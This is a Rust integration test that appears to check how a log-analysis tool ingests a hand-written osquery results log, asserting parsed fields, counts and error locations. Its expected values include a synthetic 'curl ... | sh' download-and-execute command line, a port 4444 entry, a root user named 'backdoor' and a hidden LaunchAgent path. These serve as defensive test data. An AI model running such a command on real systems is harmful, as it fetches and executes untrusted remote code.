//! Loads the hand-written osquery result log in `tests/data/linux`.

use std::path::Path;
use std::sync::atomic::AtomicBool;

use glexia::ingest::{self, Format, Location, read_raw_event};
use glexia::store::{EventStore, Platform, ValueRef};

fn str_field<'a>(store: &'a EventStore, index: usize, name: &str) -> Option<&'a str> {
    match store.field(index, name) {
        Some(ValueRef::Str(s)) => Some(s),
        _ => None,
    }
}

#[test]
fn osquery_results_sample() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/linux/osquery.results.log");
    let text = std::fs::read_to_string(&path).unwrap();

    let (store, report) = ingest::load(
        std::slice::from_ref(&path),
        &|_| {},
        &AtomicBool::new(false),
    );

    let file = &report.files[0];
    assert_eq!(file.format, Format::Osquery);
    assert_eq!(file.records_read, 6);
    assert_eq!(file.events_loaded, 5);
    assert_eq!(file.records_skipped, 1);
    assert!(file.notes.is_empty(), "{:?}", file.notes);
    let windows_line = text.trim_end().rfind('\n').unwrap() as u64 + 1;
    assert_eq!(
        file.errors[0].location,
        Location::Line {
            line: 5,
            offset: windows_line
        }
    );

    // Events in time order: the two Ubuntu results, the two snapshot rows, the launchd row.
    assert_eq!(store.log_source(0), "linux:osquery");
    assert_eq!(store.events()[0].platform, Platform::Linux);
    assert_eq!(store.events()[0].timestamp, 1_715_076_672_000_000_000);
    assert_eq!(
        str_field(&store, 0, "process.command_line"),
        Some("/bin/bash -c curl -s http://198.51.100.4/x.sh | sh")
    );
    assert_eq!(store.field(0, "process.pid"), Some(ValueRef::Int(17790)));
    assert_eq!(
        store.field(0, "process.parent.pid"),
        Some(ValueRef::Int(1340))
    );
    assert_eq!(str_field(&store, 0, "process.name"), Some("bash"));
    assert_eq!(str_field(&store, 0, "event.action"), Some("added"));
    assert_eq!(str_field(&store, 0, "rule.name"), Some("pack_ir_processes"));
    assert_eq!(str_field(&store, 0, "host.name"), Some("web1"));

    assert_eq!(str_field(&store, 1, "event.action"), Some("removed"));
    assert_eq!(
        str_field(&store, 1, "osquery.result.columns.port"),
        Some("4444")
    );

    for index in [2, 3] {
        assert_eq!(store.log_source(index), "macos:osquery");
        assert_eq!(store.events()[index].platform, Platform::MacOs);
        assert_eq!(str_field(&store, index, "event.action"), Some("snapshot"));
    }
    assert_eq!(str_field(&store, 3, "user.name"), Some("backdoor"));
    assert_eq!(str_field(&store, 3, "user.id"), Some("0"));

    assert_eq!(store.log_source(4), "macos:osquery");
    assert_eq!(
        str_field(&store, 4, "file.path"),
        Some("/Users/alice/Library/LaunchAgents/.espl.plist")
    );

    let raw = read_raw_event(&store, 3).unwrap();
    assert!(raw.contains("\"snapshot\""), "{raw}");
}
